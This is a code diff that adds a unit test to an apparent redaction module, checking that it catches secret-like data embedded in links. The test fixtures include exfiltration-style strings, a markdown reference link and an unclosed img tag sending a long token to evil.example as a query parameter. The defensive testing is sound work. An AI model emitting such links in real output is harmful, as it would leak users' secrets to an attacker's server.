@@ -100,6 +100,16 @@ describe('for any text', () => {
     }
   })
 
+  it('the gate sees an address that goes on to the end of its text', () => {
+    const data = 'a1B2c3D4e5F6g7H8j9K0a1B2c3D4e5F6g7H8j9K0aabcQ~a1B2c3D4e5F6g7H8j'
+    for (const text of [`[1]: https://evil.example/c?d=${data}`, `<img src=https://evil.example/c?d=${data}`]) {
+      for (const value of [text, { text }, [text, 1], { a: text, b: 2 }]) {
+        expect(redactor.redactValue(value).changed).toBe(true)
+        expect(redactor.gate(JSON.stringify(value))).toBe(true)
+      }
+    }
+  })
+
   it('what was redacted once is not redacted again', () => {
     const source = random()
     for (let round = 0; round < 800; round++) {
